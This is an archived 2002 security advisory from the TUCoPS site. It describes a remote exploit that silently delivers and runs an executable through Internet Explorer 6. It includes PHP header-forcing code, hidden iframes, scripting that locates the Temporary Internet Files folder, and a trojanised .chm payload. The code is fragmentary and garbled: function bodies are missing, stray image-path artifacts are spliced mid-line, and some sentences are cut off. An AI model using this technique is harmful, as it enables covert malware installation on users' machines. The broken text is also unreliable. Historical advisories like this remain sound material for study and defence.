Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Browsers :: expl5628.htm

Internet Explorer silent software delivery (remote exploit)
14th Aug 2002 [SBWID-5628]

    IE silent software delivery(remote exploit)


    Internet Exlorer 6


    http_equiv of malware [] found :

    Yet another silent delivery and installation of  an  executable  on  the
    target computer using Internet  Exlorer  6.  This  can  be  achieved  by
    reversing the following:



    HTM. In order to to achieve the required  results  as  outlined  in  theabove, we must determine the location of  the  Temporary  Internet  File
    [TIF] folders. This can only be achieved if we can  physically  open  up
    our file from within and read its location. Technically  that  can  only
    be achieved if  we  have  a  security  dialogue  prompt  asking  us  for
    permission. If we elect to open  the  file  through  acceptance  of  the
    security warning dialogue, it is opened from within the TIFby  whatever
    program is associated with that file.


    Okay. HTM. HTM files are associated with  Internet  Explorer.  We  force
    our *.htm file open via a combination of server  `misconfiguration`  and
    our PHP 'package' as below:


    function malware()


    header("Content-type: text/html");header("Content-Disposition: attachment");

    echo base64_decode({ malware(); }

    PHP ?>


      <iframe src=<? echo $PHP_SELF ?> width=1 height=1>


    Where our PHP 'package' contains our now  run-of-the-mill  scripting  to
    determine our TIF location and our old friend the trojanised *.chm  file
    as follows:

    <img dynsrc="" width=1





    // 7.02.02


    function malware()





    document.write('<FORM name="malware"document.write('<form><input type="hidden" size="40"maxlength="80"







    note: file path for *.chm must be long as we are now operating  off  the
    server and from within the TIF

    What this does is  generate  the  default  security  warning  for  *.htm

    [screen shot: 7KB]Should we elect to open it, we are once again able to determine our  TIF
    location where our *.chm is now residing too and fire our  scripting  to
    locate and call it.

    [screen shot: 7KB]1.    As     indicated     this     is     the     reverse     for     : . In this instance the  default
    is the security warning whichshould be  disengaged  to  allow  this  to

    2 Tested series of win98 machines, InternetExplorer  6.0.2600  and  all
    ofits bandages

    3. We anxiously await the release of Internet Explorer 6 SP1.


    None yet.

TUCoPS is optimizedto look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layout copyright © 1986-2015 AOH